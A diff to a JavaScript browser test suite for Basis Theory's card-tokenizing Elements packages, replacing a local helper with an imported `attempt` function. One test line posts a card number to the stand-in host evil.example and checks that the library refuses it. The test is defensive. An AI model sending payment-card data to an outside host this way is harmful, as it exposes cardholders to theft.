@@ -1,7 +1,7 @@
 // The published Elements packages from npm, unchanged, bundled as their users do, in pages of a shop. The
 // vault has a name at port 443, as these packages ask.
 import assert from 'node:assert/strict';
-import { CARD, DOMAIN, elementFrame, elementsHtml, lastChange, succeeds, typeCard, typeParts } from '../lib/elements.js';
+import { CARD, DOMAIN, attempt, elementFrame, elementsHtml, lastChange, succeeds, typeCard, typeParts } from '../lib/elements.js';
 import { publicKey } from '../lib/fields.js';
 
 export const name = 'elements';
@@ -19,8 +19,6 @@ const openShop = async (h, browser, program, options = {}) => {
   await h.until('the elements', () => page.evaluate(() => window.isReady === true || window.failure)).then((found) => assert.equal(found, true));
   return { shop, page };
 };
-
-const run_ = (h, page, text) => h.within(text, page.evaluate((source) => window.attempt(() => new Function('bt', 'el', `return ${source}`)(window.bt, window.el)), text));
 
 const WEB = `
 import { basistheory } from '@basis-theory/web-elements';
@@ -40,7 +38,7 @@ const CARD_DATA = '{ number: el.number, expiration_month: el.expiry.month(), exp
 
 const checkWebElements = async (h, browser) => {
   const { page } = await openShop(h, browser, WEB);
-  const early = await run_(h, page, `bt.tokens.create({ type: 'card', data: ${CARD_DATA} })`);
+  const early = await attempt(h, page, `bt.tokens.create({ type: 'card', data: ${CARD_DATA} })`);
   assert.equal(early.error.name, 'BasisTheoryValidationError');
   assert.deepEqual(early.error.validation.map(({ targetId }) => targetId).sort(), ['cvc', 'expiry', 'number']);
   await typeParts(page, CARD);
@@ -51,29 +49,29 @@ const checkWebElements = async (h, browser) => {
   });
   assert.deepEqual([change.cardBrand, change.cardLast4, change.valid, change.empty, change.cardBin], ['visa', '4242', true, false, undefined]);
 
-  const token = succeeds(await run_(h, page, `bt.tokens.create({ type: 'card', data: ${CARD_DATA}, metadata: { order_id: '7' }, expiresAt: '2030-01-01T00:00:00Z' })`));
+  const token = succeeds(await attempt(h, page, `bt.tokens.create({ type: 'card', data: ${CARD_DATA}, metadata: { order_id: '7' }, expiresAt: '2030-01-01T00:00:00Z' })`));
   const stored = (await h.api('GET', `/tokens/${token.id}`)).body;
   assert.deepEqual([stored.data.number, stored.data.expiration_month, stored.data.expiration_year], [CARD.number, 11, 2031]);
   assert.deepEqual([token.card.last4, token.card.expirationYear, token.metadata], ['4242', 2031, { order_id: '7' }]);
   assert.equal(stored.expires_at.slice(0, 10), '2030-01-01');
 
-  const intent = succeeds(await run_(h, page, `bt.tokenIntents.create({ type: 'card', data: ${CARD_DATA} })`));
+  const intent = succeeds(await attempt(h, page, `bt.tokenIntents.create({ type: 'card', data: ${CARD_DATA} })`));
   assert.deepEqual([intent.type, intent.card.brand, 'expiresAt' in intent], ['card', 'visa', true]);
-  const all = succeeds(await run_(h, page, `bt.tokenize({ card: { type: 'card', data: ${CARD_DATA} }, name: el.name, list: [el.name, 'plain'] })`));
+  const all = succeeds(await attempt(h, page, `bt.tokenize({ card: { type: 'card', data: ${CARD_DATA} }, name: el.name, list: [el.name, 'plain'] })`));
   assert.equal((await h.api('GET', `/tokens/${all.card.id}`)).body.data.number, CARD.number);
   assert.equal((await h.api('GET', `/tokens/${all.name}`)).body.data, 'Ada Lovelace');
-  const date = succeeds(await run_(h, page, "bt.tokens.create({ type: 'token', data: { when: el.expiry.format('yyyy-MM'), name: el.name } })"));
+  const date = succeeds(await attempt(h, page, "bt.tokens.create({ type: 'token', data: { when: el.expiry.format('yyyy-MM'), name: el.name } })"));
   assert.deepEqual((await h.api('GET', `/tokens/${date.id}`)).body.data, { when: '2031-11', name: 'Ada Lovelace' });
-  const session = succeeds(await run_(h, page, 'bt.sessions.create()'));
+  const session = succeeds(await attempt(h, page, 'bt.sessions.create()'));
   assert.deepEqual(Object.keys(session).sort().slice(0, 3), ['expiresAt', 'nonce', 'sessionKey']);
-  const changed = succeeds(await run_(h, page, `bt.tokens.update('${date.id}', { data: { name: el.name, note: 'x' } })`));
+  const changed = succeeds(await attempt(h, page, `bt.tokens.update('${date.id}', { data: { name: el.name, note: 'x' } })`));
   assert.equal(changed.id, date.id);
-  const plain = succeeds(await run_(h, page, "bt.tokens.create({ type: 'token', data: 'plain', searchIndexes: ['{{ data }}'] })"));
+  const plain = succeeds(await attempt(h, page, "bt.tokens.create({ type: 'token', data: 'plain', searchIndexes: ['{{ data }}'] })"));
   assert.equal(typeof plain.id, 'string');
-  const refused = await run_(h, page, "bt.tokens.create({ type: 'card', data: { number: '1' } })");
+  const refused = await attempt(h, page, "bt.tokens.create({ type: 'card', data: { number: '1' } })");
   h.expectComplaint(page, /400/);
   assert.deepEqual([refused.error.name, refused.error.status], ['BasisTheoryApiError', 400]);
-  const client = await run_(h, page, "bt.client.post('https://evil.example', { number: el.number })");
+  const client = await attempt(h, page, "bt.client.post('https://evil.example', { number: el.number })");
   assert.equal(client.error.name, 'BasisTheoryConfigurationError');
   await h.axe(page);
   await h.closePage(page);
@@ -110,9 +108,9 @@ const App = () => {
 createRoot(document.getElementById('root')).render(<App />);`);
   await typeParts(page, CARD);
   await (await elementFrame(page, 'text')).type('#text', '123');
-  const token = succeeds(await run_(h, page, `bt.tokens.create({ type: 'card', data: ${CARD_DATA} })`));
+  const token = succeeds(await attempt(h, page, `bt.tokens.create({ type: 'card', data: ${CARD_DATA} })`));
   assert.equal((await h.api('GET', `/tokens/${token.id}`)).body.data.number, CARD.number);
-  const masked = succeeds(await run_(h, page, "bt.tokens.create({ type: 'token', data: el.name })"));
+  const masked = succeeds(await attempt(h, page, "bt.tokens.create({ type: 'token', data: el.name })"));
   assert.equal((await h.api('GET', `/tokens/${masked.id}`)).body.data, '12-3');
   const color = await (await elementFrame(page, 'number')).$eval('#number', (it) => getComputedStyle(it).color);
   assert.equal(color, 'rgb(1, 2, 3)');
@@ -131,12 +129,12 @@ import { BasisTheory } from '@basis-theory/basis-theory-js';
   window.isReady = true;
 })().catch((error) => { window.failure = String(error.stack); });`);
   await typeCard(page, CARD);
-  const token = succeeds(await run_(h, page, "bt.tokens.create({ type: 'card', data: el.card })"));
+  const token = succeeds(await attempt(h, page, "bt.tokens.create({ type: 'card', data: el.card })"));
   const { data } = (await h.api('GET', `/tokens/${token.id}`)).body;
   assert.deepEqual([data.number, data.expiration_month, data.expiration_year], [CARD.number, 11, 2031]);
-  const all = succeeds(await run_(h, page, "bt.tokenize({ first: { type: 'card', data: el.card } })"));
+  const all = succeeds(await attempt(h, page, "bt.tokenize({ first: { type: 'card', data: el.card } })"));
   assert.equal(typeof all.first.id, 'string');
-  const plain = succeeds(await run_(h, page, "bt.tokens.create({ type: 'token', data: 'x' })"));
+  const plain = succeeds(await attempt(h, page, "bt.tokens.create({ type: 'token', data: 'x' })"));
   assert.equal(typeof plain.id, 'string');
   await h.closePage(page);
 };
@@ -158,7 +156,7 @@ const App = () => {
 };
 createRoot(document.getElementById('root')).render(<App />);`);
   await typeCard(page, CARD);
-  const token = succeeds(await run_(h, page, "bt.tokens.create({ type: 'card', data: el.card })"));
+  const token = succeeds(await attempt(h, page, "bt.tokens.create({ type: 'card', data: el.card })"));
   assert.equal((await h.api('GET', `/tokens/${token.id}`)).body.data.number, CARD.number);
   await h.closePage(page);
 };
@@ -178,7 +176,7 @@ const checkScriptTag = async (h) => {
   const page = await h.openPage({ url: shop.origin });
   await h.until('the elements', () => page.evaluate(() => window.isReady));
   await typeCard(page, CARD);
-  const token = succeeds(await run_(h, page, "bt.tokenIntents.create({ type: 'card', data: el.card })"));
+  const token = succeeds(await attempt(h, page, "bt.tokenIntents.create({ type: 'card', data: el.card })"));
   assert.equal(token.card.last4, '4242');
   const frame = await elementFrame(page, 'card', { input: 'number' });
   await frame.focus('#cvc');
